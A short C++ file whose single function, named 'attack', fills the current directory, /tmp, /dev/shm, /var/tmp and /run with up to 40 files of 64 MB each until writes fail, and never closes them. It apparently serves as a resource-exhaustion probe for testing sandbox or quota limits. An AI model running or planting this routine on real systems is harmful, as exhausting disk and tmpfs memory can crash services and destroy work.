#include <fcntl.h>
#include <string>
#include <unistd.h>
int attack(int n) {
	int total = 0;
	const std::string block(1 << 20, 'x');
	for (const char* folder : {".", "/tmp", "/dev/shm", "/var/tmp", "/run"}) {
		bool room = true;
		for (int number = 0; number < 40 && room; number++) {
			const int file = open((std::string(folder) + "/fill-" + std::to_string(number)).c_str(), O_CREAT | O_WRONLY, 0600);
			room = file >= 0;
			for (int i = 0; i < 64 && room; i++) {
				room = write(file, block.data(), block.size()) == static_cast<ssize_t>(block.size());
				if (room) total++;
			}
		}
	}
	return total;
}
